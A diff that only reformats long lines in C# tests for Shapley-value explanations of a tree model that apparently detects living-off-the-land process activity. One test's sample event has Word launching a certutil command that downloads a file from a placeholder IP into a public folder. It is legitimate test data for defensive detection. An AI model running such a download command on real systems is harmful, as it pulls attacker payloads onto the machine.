@@ -30,7 +30,11 @@ public class ShapleyValuesTests
     [Fact]
     public void They_sum_with_the_expectation_to_the_margin() =>
         Trees.SelectMany(_ => Gen.Float[0, 1].Array[Features], (t, x) => (Trees: t, Event: x)).Sample(
-            sample => Assert.Equal(sample.Trees.Margin(sample.Event), sample.Trees.Expectation + sample.Trees.Contributions(sample.Event).Values.Sum(), 1e-9),
+            sample =>
+                Assert.Equal(
+                    sample.Trees.Margin(sample.Event),
+                    sample.Trees.Expectation + sample.Trees.Contributions(sample.Event).Values.Sum(),
+                    1e-9),
             iter: 500);
 
     /// <summary>The fault of changes along a path: of two features that mean the same, the lower split would get more.</summary>
@@ -75,7 +79,8 @@ public class ShapleyValuesTests
     public void How_long_the_shipped_trees_take_to_be_explained()
     {
         var model = new MlModel(ModelPackage.ReadFile(RepositoryRoot.Combine("models", "lotl.zip")));
-        var e = Some.ProcessEvent("winword.exe", "certutil.exe", @"certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt");
+        var e = Some.ProcessEvent(
+            "winword.exe", "certutil.exe", @"certutil.exe -urlcache -split -f http://203.0.113.27/r.txt C:\Users\Public\r.txt");
         for (var i = 0; i < 20; i++) model.Explain(e, 10);
 
         // The best of some: a machine with other work to do slows down the others.
@@ -117,7 +122,9 @@ public class ShapleyValuesTests
             var (feature, threshold) = (chance.Next(Features), chance.NextSingle());
             var (left, right) = (Add(depth + 1), Add(depth + 1));
             var rows = nodes[left].Rows + nodes[right].Rows;
-            var value = rows > 0 ? ((nodes[left].Value * nodes[left].Rows) + (nodes[right].Value * nodes[right].Rows)) / rows : (nodes[left].Value + nodes[right].Value) / 2;
+            var value = rows > 0
+                ? ((nodes[left].Value * nodes[left].Rows) + (nodes[right].Value * nodes[right].Rows)) / rows
+                : (nodes[left].Value + nodes[right].Value) / 2;
             nodes[at] = (feature, threshold, left, right, value, rows);
             return at;
         }
@@ -148,7 +155,9 @@ public class ShapleyValuesTests
         if (t.Feature[node] < 0) return t.Value[node];
         var (left, right) = (t.Left[node], t.Right[node]);
         if ((known >> t.Feature[node] & 1) != 0) return Expected(t, x[t.Feature[node]] <= t.Threshold[node] ? left : right, x, known);
-        var share = Math.Abs(t.Value[left] - t.Value[right]) < 1e-12 ? 0.5 : Math.Clamp((t.Value[node] - t.Value[right]) / (t.Value[left] - t.Value[right]), 0, 1);
+        var share = Math.Abs(t.Value[left] - t.Value[right]) < 1e-12
+            ? 0.5
+            : Math.Clamp((t.Value[node] - t.Value[right]) / (t.Value[left] - t.Value[right]), 0, 1);
         return (share * Expected(t, left, x, known)) + ((1 - share) * Expected(t, right, x, known));
     }
 
